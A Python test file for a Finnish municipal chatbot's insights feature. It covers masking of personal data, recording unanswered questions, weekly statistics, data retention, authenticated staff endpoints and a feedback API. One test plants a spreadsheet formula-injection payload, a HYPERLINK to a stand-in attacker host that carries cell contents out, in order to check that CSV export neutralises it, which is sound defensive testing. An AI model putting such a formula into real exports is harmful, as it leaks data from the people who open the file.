"""What the bot could not answer, and how it is doing: masking, recording, figures, the API."""

from __future__ import annotations

import csv
import io
from datetime import datetime, timedelta, timezone

import pytest
from sqlalchemy import select

from actions.conversation import ActionOutOfScope, ActionSmallTalk
from office import insights
from office.insights import (
    AnswerEvent,
    Rating,
    UnansweredQuestion,
    conversation_key,
)
from privacy.masking import mask_personal_data
from service_catalog.db import new_session
from tests.helpers import run, tracker

# --- masking -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("soita 040 123 4567", "soita [puhelin]"),
        ("numero 050-765 4321 kiitos", "numero [puhelin] kiitos"),
        ("0401234567", "[puhelin]"),
        ("+358 40 123 4567", "[puhelin]"),
        ("+358401234567.", "[puhelin]."),
        ("+358 (0)40 123 4567", "[puhelin]"),
        ("00358 44 555 1234", "[puhelin]"),
        ("(09) 123 4567", "[puhelin]"),
        ("09-123 4567", "[puhelin]"),
        ("040 123 4567 tai 050 765 4321", "[puhelin] tai [puhelin]"),
        ("lapsi 3 040 1234567", "lapsi 3 [puhelin]"),
        ("hetu 010190-123A", "hetu [henkilötunnus]"),
        ("131052-308T", "[henkilötunnus]"),
        ("010101+123H", "[henkilötunnus]"),
        ("120305A123B ja 150622B1234", "[henkilötunnus] ja [henkilötunnus]"),
        (
            "010190Y123A, 010190X123A, 010190W123A, 010190V123A, 010190U123A",
            ", ".join(["[henkilötunnus]"] * 5),
        ),
        ("010110C123A 010110D123A 010110E123A 010110F123A", " ".join(["[henkilötunnus]"] * 4)),
        ("anna.virtanen@example.fi", "[sähköposti]"),
        ("mun sposti on anna@example.fi.", "mun sposti on [sähköposti]."),
        ("Anna, 010190-123A, anna@x.fi, 040 1234567", "Anna, [henkilötunnus], [sähköposti], [puhelin]"),
    ],
)
def test_personal_data_is_masked(text, expected):
    assert mask_personal_data(text) == expected


@pytest.mark.parametrize(
    "text",
    [
        "hätätilanteessa soita 112",
        "Lasten ja nuorten puhelin 116 111",
        "3-vuotias ei nuku",
        "0-3-vuotiaat",
        "vuonna 2023 syntynyt",
        "vuosina 2019-2023",
        "klo 9-16",
        "12.3.2024 klo 14",
        "2 lasta, 5 ja 7 vuotta",
        "postinumero 50100",
        "321010-123A",  # no 32nd day
        "011390-123A",  # no 13th month
        "010190Z123A",  # no such century sign
        "",
    ],
)
def test_what_is_not_personal_data_stays(text):
    assert mask_personal_data(text) == text


def test_none_is_empty():
    assert mask_personal_data(None) == ""


# --- recording the answers -----------------------------------------------------------------


def test_an_out_of_scope_answer_keeps_the_question_masked_and_no_sender_id(catalog_url):
    t = tracker("Voiko 040 123 4567 auttaa veroilmoituksessa?", "out_of_scope")
    t.sender_id = "family-sender-42"
    messages, _ = run(ActionOutOfScope(), t)
    assert any(m.get("custom", {}).get("kind") == "out_of_scope" for m in messages)
    with new_session(catalog_url) as session:
        (question,) = session.scalars(select(UnansweredQuestion)).all()
        (event,) = session.scalars(select(AnswerEvent)).all()
    assert question.text == "Voiko [puhelin] auttaa veroilmoituksessa?"
    assert question.kind == "out_of_scope" and question.language == "fi"
    assert question.intent == "out_of_scope"
    assert event.kind == "out_of_scope" and not event.understood
    assert event.conversation == conversation_key("family-sender-42") != "family-sender-42"
    assert "family-sender-42" not in repr(vars(event)) + repr(vars(question))


def test_a_fallback_routed_answer_is_kept_as_unanswered(catalog_url):
    run(ActionOutOfScope(), tracker("jotain ihan muuta", "nlu_fallback", confidence=0.2))
    with new_session(catalog_url) as session:
        (question,) = session.scalars(select(UnansweredQuestion)).all()
    assert question.kind == "nlu_fallback"


def test_small_talk_is_counted_but_not_kept_as_unanswered(catalog_url):
    run(ActionSmallTalk(), tracker("kiitos", "thanks"))
    with new_session(catalog_url) as session:
        (event,) = session.scalars(select(AnswerEvent)).all()
        assert session.scalars(select(UnansweredQuestion)).all() == []
    assert event.kind == "small_talk" and not event.understood


def test_a_failure_to_record_never_costs_the_family_its_answer(catalog_url, monkeypatch):
    def broken(*_args, **_kwargs):
        raise RuntimeError("database is locked")

    monkeypatch.setattr(insights, "record_answer", broken)
    messages, _ = run(ActionOutOfScope(), tracker("veroilmoitus", "out_of_scope"))
    assert any(m.get("text") for m in messages)


# --- figures -------------------------------------------------------------------------------

# Monday 16 Nov 2026 and Monday 23 Nov 2026 are the first days of ISO weeks 47 and 48.
NOW = datetime(2026, 11, 25, 12, tzinfo=timezone.utc)
W47 = datetime(2026, 11, 17, 10, tzinfo=timezone.utc)
W48 = datetime(2026, 11, 24, 10, tzinfo=timezone.utc)


def _answer(session, sender, kind, at, text="", intent=None, lang="fi"):  # type: ignore[no-untyped-def]
    insights.record_answer(
        session,
        sender_id=sender,
        kind=kind,
        text=text,
        intent=intent,
        language=lang,
        municipality_id="mikkeli",
        service_type=None,
        now=at,
    )


def _two_weeks(url: str) -> None:
    with new_session(url) as s, s.begin():
        # Week 47: two conversations, four answers (one small talk), 2/3 understood.
        _answer(s, "a", "services", W47)
        _answer(s, "a", "small_talk", W47)
        _answer(s, "a", "out_of_scope", W47, "Voiko veroilmoitus auttaa? veroilmoitus", "out_of_scope")
        _answer(s, "b", "crisis", W47)
        insights.add_rating(s, sender_id="a", helpful=True, services=["x"], language="fi", now=W47)
        # Week 48: three conversations, 2/5 understood, one crisis, one handoff.
        _answer(s, "c", "handoff", W48)
        _answer(s, "d", "crisis", W48)
        _answer(s, "e", "clarify", W48, "Lapsen passi", "need_x")
        _answer(s, "e", "out_of_scope", W48, "Lapsen passi hakemus", "out_of_scope")
        _answer(s, "e", "out_of_scope", W48, "auton passi?", "out_of_scope")
        insights.add_rating(s, sender_id="c", helpful=True, services=[], language="fi", now=W48)
        insights.add_rating(s, sender_id="d", helpful=False, services=[], language="fi", now=W48)
        insights.add_rating(s, sender_id="e", helpful=False, services=[], language="fi", now=W48)
        # Sunday 22 Nov 23:30 in Helsinki is still week 47 though it is Monday nowhere yet in UTC.
        _answer(s, "b", "services", datetime(2026, 11, 22, 21, 30, tzinfo=timezone.utc))


def test_weekly_figures(catalog_url):
    _two_weeks(catalog_url)
    with new_session(catalog_url) as session:
        w48, w47, w46 = insights.weekly(session, weeks=3, now=NOW)
    assert (w48["week"], w47["week"], w46["week"]) == ("2026-W48", "2026-W47", "2026-W46")
    assert w47 | {"top_unanswered": None} == {
        "week": "2026-W47",
        "start": "2026-11-16",
        "conversations": 2,
        "answers": 5,
        "routing_answers": 4,
        "understood_share": 0.75,
        "crisis": 1,
        "handoffs": 0,
        "helpful": 1,
        "not_helpful": 0,
        "unanswered": 1,
        "top_unanswered": None,
    }
    assert w47["top_unanswered"][0] == {"lemma": "veroilmoitus", "count": 2}
    assert w48 | {"top_unanswered": None} == {
        "week": "2026-W48",
        "start": "2026-11-23",
        "conversations": 3,
        "answers": 5,
        "routing_answers": 5,
        "understood_share": 0.4,
        "crisis": 1,
        "handoffs": 1,
        "helpful": 1,
        "not_helpful": 2,
        "unanswered": 3,
        "top_unanswered": None,
    }
    assert w48["top_unanswered"][:2] == [{"lemma": "passi", "count": 3}, {"lemma": "lapsi", "count": 2}]
    assert w46["answers"] == 0 and w46["understood_share"] is None


# --- retention -----------------------------------------------------------------------------


def test_rows_older_than_the_retention_are_deleted(catalog_url):
    with new_session(catalog_url) as s, s.begin():
        _answer(s, "a", "out_of_scope", NOW - timedelta(days=366), "vanha kysymys", "out_of_scope")
        insights.add_rating(
            s, sender_id="a", helpful=True, services=[], language="fi", now=NOW - timedelta(days=366)
        )
        _answer(s, "a", "out_of_scope", NOW - timedelta(days=364), "uusi kysymys", "out_of_scope")
    with new_session(catalog_url) as s, s.begin():
        assert insights.purge_expired(s, now=NOW) == 3  # default 365 days
    with new_session(catalog_url) as s:
        assert [q.text for q in s.scalars(select(UnansweredQuestion))] == ["uusi kysymys"]
        assert len(s.scalars(select(AnswerEvent)).all()) == 1
        assert s.scalars(select(Rating)).all() == []


def test_the_api_purges_insights_at_start_up(staff_url):
    from fastapi.testclient import TestClient

    from api.main import app

    with new_session(staff_url) as s, s.begin():
        _answer(
            s, "a", "out_of_scope", datetime.now(timezone.utc) - timedelta(days=400), "vanha", "out_of_scope"
        )
    with TestClient(app):  # runs the start-up handlers
        pass
    with new_session(staff_url) as s:
        assert s.scalars(select(UnansweredQuestion)).all() == []


# --- the staff API -------------------------------------------------------------------------


def _api_rows(url: str) -> None:
    now = datetime.now(timezone.utc)
    with new_session(url) as s, s.begin():
        _answer(s, "a", "out_of_scope", now - timedelta(days=1), "Passi 040 1234567", "out_of_scope")
        _answer(s, "b", "clarify", now - timedelta(hours=1), "hei, 'lainaus' ja pilkku", "x", lang="sv")


@pytest.mark.parametrize("path", ["/insights/unanswered", "/insights/unanswered.csv", "/insights/weekly"])
def test_the_figures_need_a_signed_in_caller(client, path):
    assert client.get(path).status_code == 401
    assert client.get(path, headers={"Authorization": "Bearer nonsense"}).status_code == 401


def test_a_viewer_lists_filters_and_pages_the_unanswered(client, auth, staff_url):
    _api_rows(staff_url)
    response = client.get("/insights/unanswered", headers=auth["viewer"])
    assert response.status_code == 200
    rows = response.json()
    assert [r["kind"] for r in rows] == ["clarify", "out_of_scope"]  # newest first
    assert rows[1]["text"] == "Passi [puhelin]"
    assert "conversation" not in rows[0]
    swedish = client.get("/insights/unanswered?language=sv", headers=auth["viewer"]).json()
    assert [r["language"] for r in swedish] == ["sv"]
    since = (datetime.now(timezone.utc) - timedelta(hours=2)).isoformat()
    recent = client.get("/insights/unanswered", params={"since": since}, headers=auth["viewer"]).json()
    assert [r["kind"] for r in recent] == ["clarify"]
    page = client.get("/insights/unanswered?limit=1&offset=1", headers=auth["viewer"]).json()
    assert [r["kind"] for r in page] == ["out_of_scope"]
    assert client.get("/insights/unanswered?municipality=juva", headers=auth["viewer"]).json() == []


def test_the_unanswered_export_as_csv(client, auth, staff_url):
    _api_rows(staff_url)
    response = client.get("/insights/unanswered.csv", headers=auth["viewer"])
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    assert "attachment" in response.headers["content-disposition"]
    rows = list(csv.reader(io.StringIO(response.text)))
    assert rows[0] == ["at", "kind", "language", "municipality_id", "intent", "text"]
    assert [r[5] for r in rows[1:]] == ["hei, 'lainaus' ja pilkku", "Passi [puhelin]"]


def test_a_question_written_as_a_formula_comes_out_neutralised_in_the_csv(client, auth, staff_url):
    hostile = '=HYPERLINK("http://evil.example/?d="&A1,"Avaa tästä")'
    now = datetime.now(timezone.utc)
    with new_session(staff_url) as s, s.begin():
        for n, text in enumerate(
            [hostile, "@SUM(1+1)", "-5 astetta, onko kerho auki", "onko kerho auki", "-12"]
        ):
            _answer(s, f"f{n}", "out_of_scope", now - timedelta(minutes=n), text, "out_of_scope")
    response = client.get("/insights/unanswered.csv", headers=auth["viewer"])
    texts = [r[5] for r in csv.reader(io.StringIO(response.text))][1:]
    assert texts == [
        "'" + hostile,
        "'@SUM(1+1)",
        "'-5 astetta, onko kerho auki",
        "onko kerho auki",  # normal text as it was
        "-12",  # a number stays a number
    ]


def test_a_viewer_reads_the_weekly_figures(client, auth, staff_url):
    _api_rows(staff_url)
    response = client.get("/insights/weekly?weeks=2", headers=auth["viewer"])
    assert response.status_code == 200
    weeks = response.json()
    assert len(weeks) == 2 and weeks[0]["week"].startswith("20")
    assert sum(w["unanswered"] for w in weeks) >= 1
    assert client.get("/insights/weekly?weeks=0", headers=auth["viewer"]).status_code == 422


# --- ratings from the widget ---------------------------------------------------------------


def test_a_family_rates_an_answer_without_signing_in(client, staff_url):
    with new_session(staff_url) as s, s.begin():
        _answer(s, "web-abc", "services", NOW)
    body = {"sender": "web-abc", "helpful": False, "services": ["mikkeli-neuvola"], "language": "sv"}
    response = client.post("/feedback", json=body, headers={"Origin": "http://localhost:8000"})
    assert response.status_code == 204 and not response.content
    assert response.headers["access-control-allow-origin"] == "http://localhost:8000"
    with new_session(staff_url) as s:
        (rating,) = s.scalars(select(Rating)).all()
    assert rating.helpful is False and rating.services == ["mikkeli-neuvola"] and rating.language == "sv"
    assert rating.conversation == conversation_key("web-abc")

    def preflight(origin: str):  # type: ignore[no-untyped-def]
        return client.options(
            "/feedback", headers={"Origin": origin, "Access-Control-Request-Method": "POST"}
        )

    # PK_CORS_ORIGINS (default: the demo page's own origin) may post; another site may not.
    allowed = preflight("http://localhost:8000")
    assert allowed.status_code == 200 and "POST" in allowed.headers["access-control-allow-methods"]
    assert "access-control-allow-origin" not in preflight("https://evil.example").headers


def test_a_rating_is_taken_only_for_an_answer_the_bot_gave_and_once(client, staff_url):
    body = {"sender": "web-flood", "helpful": False}
    refused = client.post("/feedback", json=body)
    assert refused.status_code == 409 and "no answer" in refused.json()["detail"]
    with new_session(staff_url) as s, s.begin():
        _answer(s, "web-flood", "services", NOW)
        _answer(s, "web-flood", "small_talk", NOW)  # nothing to rate in small talk
    assert client.post("/feedback", json=body).status_code == 204
    again = [client.post("/feedback", json=body).status_code for _ in range(5)]
    assert again == [409] * 5
    with new_session(staff_url) as s:
        assert len(s.scalars(select(Rating)).all()) == 1


@pytest.mark.parametrize(
    "body",
    [
        {"sender": "web-abc", "helpful": True, "extra": 1},  # unknown field
        {"sender": "web-abc"},  # no rating
        {"helpful": True},  # no sender
        {"sender": "", "helpful": True},
        {"sender": "x" * 129, "helpful": True},
        {"sender": "web-abc", "helpful": "yes"},
        {"sender": "web-abc", "helpful": True, "language": "de"},
        {"sender": "web-abc", "helpful": True, "services": ["s"] * 21},
        {"sender": "web-abc", "helpful": True, "services": ["x" * 101]},
        {"sender": "web-abc", "helpful": True, "services": "mikkeli-neuvola"},
    ],
)
def test_a_rating_is_validated_strictly(client, staff_url, body):
    assert client.post("/feedback", json=body).status_code == 422
    with new_session(staff_url) as s:
        assert s.scalars(select(Rating)).all() == []
